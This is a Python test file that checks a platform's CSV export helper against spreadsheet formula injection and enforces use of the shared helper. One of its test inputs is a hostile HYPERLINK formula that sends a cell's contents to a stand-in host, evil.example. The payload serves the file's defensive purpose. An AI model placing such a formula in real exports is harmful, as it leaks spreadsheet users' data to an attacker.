"""Every CSV the platform writes opens in a spreadsheet as data: no cell can start a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from koproduktion.core.csv_export import csv_cell, csv_text

PACKAGE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Klick")',
        "+49 151 1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(text):
    assert csv_cell(text) == "'" + text
    (row,) = csv.reader(io.StringIO(csv_text([[text]])))
    assert row == ["'" + text]


@pytest.mark.parametrize("value", ["Mehr Grün", "", "a=b", 42, -3, None, "'=schon"])
def test_other_cells_stay_as_they_are(value):
    assert csv_cell(value) == value


# Files that write CSV themselves, each with its reason.
OWN_WRITERS = {
    # Polis's own export format, read back by Polis's tools and by our importer: a statement
    # must come back exactly as it was written, so its cells are not neutralised.
    "opinions/polis_writer.py",
}


def test_no_csv_is_written_past_the_shared_helper():
    """A new export must use ``csv_export``; writing with the csv module directly bypasses it."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "csv_export.py"
        and str(path.relative_to(PACKAGE)) not in OWN_WRITERS
        and writers.search(path.read_text())
    ]
    assert offenders == []
